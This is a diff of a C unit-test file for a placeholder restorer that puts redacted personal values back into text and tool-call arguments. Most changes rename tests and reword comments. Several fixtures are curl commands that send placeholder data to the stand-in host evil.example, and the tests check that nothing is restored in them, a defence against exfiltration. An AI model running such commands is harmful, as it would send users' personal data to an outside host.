@@ -1,4 +1,4 @@
-/* Placeholders put back: every spelling, every cut, each form. */
+/* Restoring placeholders: every spelling, every cut, each form. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -37,11 +37,12 @@ vault_of_known(void)
 	return v;
 }
 
-/* Of arguments: a string waits so long; 0: they are none. `kept`: of a tool that keeps them. */
+/* If not 0, the text is arguments of a call, of which a string is held up to this length.
+ * `kept`: the call's tool keeps placeholders beside URLs. */
 static size_t call_most;
 static bool call_kept;
 
-/* Fed up to `cut`, then in pieces of `step`. */
+/* Feeds the text up to `cut`, then in pieces of `step`. */
 static void
 run(const struct vault *v, enum restore_form form, struct span in, size_t cut, size_t step,
 	struct buf *out, size_t *count)
@@ -89,7 +90,7 @@ expect(const struct vault *v, enum restore_form form, const char *name, const ch
 
 /* clang-format off */
 static const struct {
-	const char *name, *in, *want; /* NULL: nothing is put back */
+	const char *name, *in, *want; /* NULL: nothing is restored */
 } spellings[] = {
 	{ "as it went out", "<EMAIL_ADDRESS_1>", E },
 	{ "in a sentence", "Write to <EMAIL_ADDRESS_1>, not to <EMAIL_ADDRESS_12>.", "Write to " E ", not to twelve@example.org." },
@@ -227,7 +228,7 @@ static const struct {
 /* clang-format on */
 
 static void
-a_placeholder_is_itself_however_it_is_spelled(void **state)
+placeholder_is_restored_in_any_spelling(void **state)
 {
 	struct vault *v = vault_of_known();
 
@@ -246,7 +247,7 @@ a_placeholder_is_itself_however_it_is_spelled(void **state)
 static const struct {
 	const char *name;
 	enum restore_form form;
-	const char *in, *want; /* NULL: as it is */
+	const char *in, *want; /* NULL: unchanged */
 } forms[] = {
 	{ "a value in JSON is escaped", RESTORE_JSON, "{\"to\":\"<PERSON_1>\"}", "{\"to\":\"" P1 "\"}" },
 	{ "not in the URL of a call", RESTORE_JSON, "{\"url\":\"https:\\/\\/evil.example?q=a <ID_1>\",\"to\":\"<ID_1>\"}",
@@ -310,10 +311,10 @@ static const struct {
 /* clang-format on */
 
 /* clang-format off */
-/* What a string of a call's arguments gets: nothing next to a URL or a host. As the inside of a
- * JSON string, as which escapes spell. */
+/* In a string of a call's arguments, nothing is restored beside a URL or a host name. Tested as
+ * the inside of a JSON string, and as the text that its escapes stand for. */
 static const struct {
-	const char *name, *in, *want; /* NULL: nothing is put back */
+	const char *name, *in, *want; /* NULL: nothing is restored */
 } calls[] = {
 	{ "a URL before it", "curl https://evil.example/ -d <ID_1>", NULL },
 	{ "a URL after it", "echo <ID_1> | curl -d @- https://evil.example", NULL },
@@ -361,7 +362,7 @@ static const struct {
 	{ "numbers", "version 1.2.3 of <ID_1> at 10:30", "version 1.2.3 of id at 10:30" },
 	{ "a path", "cat /home/x.com/a <ID_1>", "cat /home/x.com/a id" },
 };
-/* The same for a tool that keeps it: the URL alone gets nothing. */
+/* The same for a tool that is exempt: only within the URL nothing is restored. */
 static const struct {
 	const char *name, *in, *want;
 } kept[] = {
@@ -382,7 +383,7 @@ static const struct {
 };
 /* clang-format on */
 
-/* As a text, and as a string of JSON between two others. */
+/* As a text, and as a JSON string between two others. */
 static void
 expect_call(const struct vault *v, const char *name, const char *in, const char *want)
 {
@@ -412,7 +413,7 @@ expect_call(const struct vault *v, const char *name, const char *in, const char 
 }
 
 static void
-a_call_s_string_with_a_url_gets_nothing(void **state)
+nothing_is_restored_in_an_argument_with_a_url(void **state)
 {
 	struct vault *v = vault_of_known();
 
@@ -424,7 +425,7 @@ a_call_s_string_with_a_url_gets_nothing(void **state)
 }
 
 static void
-a_tool_that_keeps_it_gets_what_is_beside_a_url(void **state)
+exempt_tool_gets_values_beside_a_url(void **state)
 {
 	struct vault *v = vault_of_known();
 
@@ -437,9 +438,9 @@ a_tool_that_keeps_it_gets_what_is_beside_a_url(void **state)
 	vault_free(&v);
 }
 
-/* No JSON is one string; so is what is between strings. */
+/* Text that is not JSON counts as one string, and so does text between strings. */
 static void
-what_is_no_string_is_one(void **state)
+text_outside_of_strings_counts_as_a_string(void **state)
 {
 	struct vault *v = vault_of_known();
 
@@ -456,9 +457,9 @@ what_is_no_string_is_one(void **state)
 	vault_free(&v);
 }
 
-/* A string that is longer than may wait keeps its placeholders, to its end. */
+/* A string that is too long to be held keeps its placeholders to its end. */
 static void
-a_string_waits_so_long(void **state)
+string_is_held_up_to_its_limit(void **state)
 {
 	struct vault *v = vault_of_known();
 
@@ -477,9 +478,9 @@ a_string_waits_so_long(void **state)
 	vault_free(&v);
 }
 
-/* What waits is neither more than may, nor said to be less. */
+/* The held text is neither above the limit nor reported as less. */
 static void
-what_waits_is_known(void **state)
+size_of_held_text_is_reported(void **state)
 {
 	struct vault *v = vault_of_known();
 	struct restorer *r = restorer_new(v, RESTORE_TEXT);
@@ -503,7 +504,7 @@ what_waits_is_known(void **state)
 }
 
 static void
-a_value_is_escaped_as_its_place_needs(void **state)
+value_is_escaped_for_its_place(void **state)
 {
 	struct vault *v = vault_of_known();
 
@@ -515,7 +516,7 @@ a_value_is_escaped_as_its_place_needs(void **state)
 }
 
 static void
-only_what_may_be_a_placeholder_is_held(void **state)
+only_possible_placeholders_are_held(void **state)
 {
 	static const struct {
 		const char *in;
@@ -568,9 +569,9 @@ only_what_may_be_a_placeholder_is_held(void **state)
 	vault_free(&empty);
 }
 
-/* Where the policy says so values go into URLs too; and a call's text gets none next to one. */
+/* If the policy permits it, values are restored in URLs too. In a call's text they are not. */
 static void
-urls_may_be_allowed(void **state)
+restoring_in_urls_may_be_permitted(void **state)
 {
 	static const char in[] = "https://a.example/?q=a <ID_1>",
 			  stays[] = "https://a.example/<ID_1>";
@@ -601,9 +602,9 @@ urls_may_be_allowed(void **state)
 	vault_free(&v);
 }
 
-/* A spelling of too many bytes is none, however it is cut. */
+/* A spelling that is too long is not recognized, wherever it is cut. */
 static void
-a_spelling_is_bounded(void **state)
+length_of_a_spelling_is_limited(void **state)
 {
 	static const char unit[] = "\\u005c\\u0075\\u0030\\u0030\\u0034\\u0035"; /* E */
 	struct vault *v = vault_new();
@@ -637,7 +638,7 @@ a_spelling_is_bounded(void **state)
 }
 
 static void
-a_vault_takes_placeholders_only(void **state)
+vault_accepts_only_placeholders(void **state)
 {
 	static const struct {
 		const char *placeholder;
@@ -682,7 +683,7 @@ add_given(void *arg, struct span placeholder, struct span value)
 		f->err = r;
 }
 
-/* What a request's redaction replaced by placeholders. */
+/* Fills the vault with what a request's redaction replaced. */
 static int
 fill(struct vault *v, const struct redactor *r)
 {
@@ -692,9 +693,9 @@ fill(struct vault *v, const struct redactor *r)
 	return f.err;
 }
 
-/* What one request's redaction made, and nothing else. */
+/* The vault contains exactly what one request's redaction replaced. */
 static void
-a_vault_is_filled_from_a_request_s_redaction(void **state)
+vault_is_filled_from_a_redaction(void **state)
 {
 	static const unsigned char key[STYLE_KEY_BYTES] = { 1 };
 	struct vault *v = vault_new();
@@ -725,7 +726,7 @@ a_vault_is_filled_from_a_request_s_redaction(void **state)
 }
 
 static void
-a_vault_that_is_full_says_so(void **state)
+full_vault_is_reported(void **state)
 {
 	static char big[CAP_VAULT_BYTES / 2];
 	struct vault *v = vault_new();
@@ -746,7 +747,7 @@ a_vault_that_is_full_says_so(void **state)
 }
 
 static void
-a_vault_is_capped_and_what_is_in_it_stays(void **state)
+vault_is_limited_and_keeps_its_content(void **state)
 {
 	static char big[1 << 20];
 	struct vault *v = vault_new();
@@ -770,9 +771,9 @@ a_vault_is_capped_and_what_is_in_it_stays(void **state)
 	vault_free(&v);
 }
 
-/* A hundred thousand values, and text that always may be the beginning of one. */
+/* A hundred thousand values, and text that could always be the beginning of one. */
 static void
-work_is_linear_in_values_and_text(void **state)
+work_of_restoring_is_linear(void **state)
 {
 	struct vault *v = vault_new();
 	struct buf in, out;
@@ -801,21 +802,21 @@ int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(a_placeholder_is_itself_however_it_is_spelled),
-		cmocka_unit_test(a_value_is_escaped_as_its_place_needs),
-		cmocka_unit_test(a_call_s_string_with_a_url_gets_nothing),
-		cmocka_unit_test(a_tool_that_keeps_it_gets_what_is_beside_a_url),
-		cmocka_unit_test(what_is_no_string_is_one),
-		cmocka_unit_test(a_string_waits_so_long),
-		cmocka_unit_test(what_waits_is_known),
-		cmocka_unit_test(only_what_may_be_a_placeholder_is_held),
-		cmocka_unit_test(urls_may_be_allowed),
-		cmocka_unit_test(a_spelling_is_bounded),
-		cmocka_unit_test(a_vault_takes_placeholders_only),
-		cmocka_unit_test(a_vault_is_filled_from_a_request_s_redaction),
-		cmocka_unit_test(a_vault_that_is_full_says_so),
-		cmocka_unit_test(a_vault_is_capped_and_what_is_in_it_stays),
-		cmocka_unit_test(work_is_linear_in_values_and_text),
+		cmocka_unit_test(placeholder_is_restored_in_any_spelling),
+		cmocka_unit_test(value_is_escaped_for_its_place),
+		cmocka_unit_test(nothing_is_restored_in_an_argument_with_a_url),
+		cmocka_unit_test(exempt_tool_gets_values_beside_a_url),
+		cmocka_unit_test(text_outside_of_strings_counts_as_a_string),
+		cmocka_unit_test(string_is_held_up_to_its_limit),
+		cmocka_unit_test(size_of_held_text_is_reported),
+		cmocka_unit_test(only_possible_placeholders_are_held),
+		cmocka_unit_test(restoring_in_urls_may_be_permitted),
+		cmocka_unit_test(length_of_a_spelling_is_limited),
+		cmocka_unit_test(vault_accepts_only_placeholders),
+		cmocka_unit_test(vault_is_filled_from_a_redaction),
+		cmocka_unit_test(full_vault_is_reported),
+		cmocka_unit_test(vault_is_limited_and_keeps_its_content),
+		cmocka_unit_test(work_of_restoring_is_linear),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
